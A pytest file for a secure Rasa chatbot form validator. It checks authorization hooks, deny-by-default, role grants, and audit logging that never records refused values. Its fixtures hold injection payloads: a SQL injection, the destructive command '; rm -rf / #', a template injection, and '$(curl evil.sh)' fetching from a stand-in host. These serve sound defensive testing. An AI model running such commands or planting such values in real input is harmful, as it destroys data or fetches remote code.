"""SecureFormValidationAction: authorize_<slot> before validate_<slot>, deny by default, screen."""

from __future__ import annotations

import json
import logging
from typing import Any, Dict, List, Tuple

import pytest
from rasa_sdk import Tracker

from rasa_secure.actions import ActionContext, ActionGuard
from rasa_secure.actions.secure_form import SecureFormValidationAction
from tests.actions.conftest import call, tracker
from tests.actions.sample_actions import ValidateTransferForm

REFUSAL = "Sorry, I can't help you with that."
INVALID = "Sorry, that doesn't look right. Please check and try again."


@pytest.fixture(autouse=True)
def use_guard(guard: ActionGuard, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(SecureFormValidationAction, "guard", guard)


def slot_events(events: List[Dict[str, Any]]) -> Dict[str, Any]:
    return {e["name"]: e["value"] for e in events if e.get("event") == "slot"}


def run_form(
    state: Tracker, action: Any = None
) -> Tuple[Dict[str, Any], List[Any], List[Dict[str, Any]]]:
    events, messages = call(action or ValidateTransferForm(), state)
    return slot_events(events), [m.get("text") for m in messages], events


def test_authorized_valid_values_are_accepted_and_normalised() -> None:
    slots, texts, _ = run_form(
        tracker("alice", candidates={"amount": "12,5", "recipient_account": "2000 3000 40"})
    )
    assert slots == {"amount": 12.5, "recipient_account": "2000300040"}
    assert texts == []


CANDIDATE_REFUSALS = [
    # (why, slot, value, message, audit reason)
    (
        "SQL payload in an account number",
        "recipient_account",
        "2000300040' OR '1'='1",
        INVALID,
        "injection:sql_injection",
    ),
    ("shell payload", "recipient_account", "; rm -rf / #", INVALID, "injection:command_injection"),
    ("template payload", "amount", "{{7*7}}", INVALID, "injection:template_injection"),
    ("authorize hook says no", "recipient_account", "9999999999", REFUSAL, "authorize_refused"),
    ("validate_ raises InputError (typed value)", "amount", "12.345", INVALID, "invalid_input"),
]


@pytest.mark.parametrize(
    ("why", "slot", "value", "message", "reason"),
    CANDIDATE_REFUSALS,
    ids=[c[0] for c in CANDIDATE_REFUSALS],
)
def test_refused_candidates_are_reset(
    why: str, slot: str, value: str, message: str, reason: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Rasa already set the candidate: the refusal must actively reset it to None."""
    with caplog.at_level(logging.INFO, logger="rasa_secure.audit"):
        slots, texts, _ = run_form(tracker("alice", candidates={slot: value}))
    assert slots == {slot: None}, why
    assert texts == [message]
    records = [json.loads(r.getMessage()) for r in caplog.records if r.name == "rasa_secure.audit"]
    assert [(r["categories"], r["reasons"]) for r in records] == [([slot], [reason])]
    assert value not in caplog.text, "the refused value is never logged"


def test_role_without_write_grant_is_refused() -> None:
    """Tellers may not write transfer slots: without a grant the write is denied."""
    slots, texts, _ = run_form(tracker("tina", ("teller",), candidates={"amount": "10"}))
    assert slots == {"amount": None}
    assert texts == [REFUSAL]


class NoHooks(ValidateTransferForm):
    """Validates amounts but forgot authorize_amount: must deny."""

    def name(self) -> str:
        return "validate_sample_form"

    authorize_amount = None  # type: ignore[assignment]


def test_missing_authorize_hook_means_deny() -> None:
    slots, texts, _ = run_form(tracker("alice", candidates={"amount": "10"}), NoHooks())
    assert slots == {"amount": None}
    assert texts == [REFUSAL]


class LooksAtContext(ValidateTransferForm):
    """An authorize hook using the caller's identity (e.g. a per-customer limit)."""

    calls: List[Tuple[Any, str]] = []

    def name(self) -> str:
        return "validate_sample_form"

    def authorize_amount(self, value: Any, tracker: Tracker, context: ActionContext) -> bool:
        LooksAtContext.calls.append((value, context.identity.subject))
        return context.identity.subject == "alice"


def test_authorize_hook_gets_the_verified_identity_and_runs_after_screening() -> None:
    LooksAtContext.calls.clear()
    run_form(tracker("alice", candidates={"amount": "10"}), LooksAtContext())
    run_form(tracker("alice", candidates={"amount": "$(curl evil.sh)"}), LooksAtContext())
    assert LooksAtContext.calls == [("10", "alice")], "a payload never reaches the hook"


def test_unauthenticated_form_call_resets_every_candidate() -> None:
    slots, texts, _ = run_form(
        tracker(
            metadata={"roles": ["teller"]},
            candidates={"amount": "10", "recipient_account": "2000300040"},
        )
    )
    assert slots == {"amount": None, "recipient_account": None}
    assert texts == [REFUSAL]


def test_role_without_the_validation_action_grant() -> None:
    """The validation action itself is a policy action (validate_sample_form)."""
    slots, texts, _ = run_form(tracker("adam", ("admin",), candidates={"amount": "10"}))
    assert slots == {"amount": None}
    assert texts == [REFUSAL]


def test_slots_outside_the_form_are_left_alone() -> None:
    """Like rasa-sdk, candidates not required by this form are neither validated nor returned."""
    slots, _, _ = run_form(
        tracker("alice", candidates={"email": "alice@example.com", "amount": "5"})
    )
    assert slots == {"amount": 5.0}
